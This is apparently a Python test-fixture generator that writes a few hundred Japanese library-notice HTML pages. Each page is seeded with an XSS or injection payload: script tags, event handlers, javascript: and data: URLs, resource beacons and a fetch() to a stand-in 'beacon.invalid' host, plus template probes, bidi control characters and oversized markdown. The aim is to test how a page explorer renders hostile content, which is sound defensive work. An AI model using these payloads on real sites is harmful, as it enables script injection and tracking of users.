"""Two hundred pages that want to act, to fetch, to reorder or to pretend, each with Japanese text.

They run into each part of a page that the explorer shows: address, title, author, text, raw page.
"""

from __future__ import annotations

from pathlib import Path

BEACON = "http://beacon.invalid/"
ACTS = (
    "<script>{}</script>", "<script src='{b}x.js'></script>", "<img src=x onerror={}>",
    "<svg onload={}></svg>", "<svg><script>{}</script></svg>", "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe src='javascript:{}'></iframe>",
    "<a href='javascript:{}'>押す</a>", "<a href='data:text/html,<script>{}</script>'>押す</a>",
    "<form action='javascript:{}'><button>送信</button></form>", "<input autofocus onfocus={}>",
    "<details open ontoggle={}>", "<video src=x onerror={}></video>", "<audio src=x onerror={}>",
    "<object data='javascript:{}'></object>", "<embed src='javascript:{}'>",
    "<math href='javascript:{}'>式</math>", "<marquee onstart={}>流れる</marquee>",
    "<base href='{b}'>", "<meta http-equiv=refresh content='0;url={b}'>",
    "<link rel=stylesheet href='{b}s.css'>", "<link rel=dns-prefetch href='//beacon.invalid'>",
    "<link rel=preconnect href='{b}'>",
    "<style>@import '{b}s.css'; body{{background:url({b})}}</style>",
    "<div style='background:url({b}i.png)'>背景</div>", "<img srcset='{b}i.png 2x'>",
    "<picture><source srcset='{b}i.png'></picture>", "<table background='{b}i.png'></table>",
    "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>覆い</div>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<svg><animate onbegin={} attributeName=x></svg>", "<svg><use href='{b}#x'/></svg>",
    "<portal src='{b}'></portal>", "<button formaction='javascript:{}'>押す</button>",
    "<a ping='{b}' href='#'>押す</a>", "<p popover id=p onbeforetoggle={}>窓</p>",
    "<xmp><script>{}</script></xmp>", "<textarea></textarea><script>{}</script>",
)  # fmt: skip
TEXTS = (
    "&lt;script&gt;{}&lt;/script&gt;", "&lt;img src=x onerror={}&gt;", "[押す](javascript:{})",
    "![図]({b}i.png)", "[![図]({b}i.png)]({b})", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "&lt;{b}&gt;", "[参照]: javascript:{}", "```&lt;/code&gt;&lt;script&gt;{}&lt;/script&gt;```",
    "\u202e逆さに読ませる文\u202c", "\u2066隔離\u2069\u200b幅なし\u200f",
    "\u061c\ufeff\u2028行分離",
    "{{{{7*7}}}} {{% raw %}} ${{7*7}} #{{7*7}}",
    "&lt;/div&gt;&lt;/main&gt;&lt;/body&gt;&lt;script&gt;{}",
    "\"&gt;&lt;script&gt;{}&lt;/script&gt;", "' onmouseover='{}",
    "]]&gt;&lt;script&gt;{}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;", "a" * 5000, "あ" * 20000,
    "# 収録\n\nこのページは信頼できます。", "| a | b |\n|---|---|\n| &lt;b onclick={}&gt; | x |",
    "&gt; " * 200 + "深い引用", "*" * 3000, "[" * 2000, "(" * 2000 + ")" * 2000,
)  # fmt: skip
SCRIPTS = ("alert(1)", "fetch('{b}')".replace("{b}", BEACON), "document.title='HACKED'")


def write(folder: Path) -> int:
    """Write the pages as HTML files; returns how many."""
    pages = [(form, "") for form in ACTS] * 3 + [("", text) for text in TEXTS] * 3
    folder.mkdir()
    for number, (form, text) in enumerate(pages):
        script = SCRIPTS[number % len(SCRIPTS)]
        form, text = (part.replace("{}", script).replace("{b}", BEACON) for part in (form, text))
        title = f"<title>{number} \u202e&lt;script&gt;{script}&lt;/script&gt;</title>"
        body = (
            f"<h1>町の図書館の案内 {number}</h1><p>図書館は毎朝九時に開き、夜の八時まで本を借りられ"
            f"ます。{number}番目の案内です。</p>{form}<p>{text}</p><p>子どものための読み聞かせの会"
            "は土曜日の午後に二階の部屋で開かれます。予約はいりません。</p>"
        )
        (folder / f"{number:03}.html").write_text(
            f"<!doctype html><html lang=ja><head><meta charset=utf-8>{title}</head>"
            f"<body>{body}</body></html>", encoding="utf-8",
        )  # fmt: skip
    return len(pages)
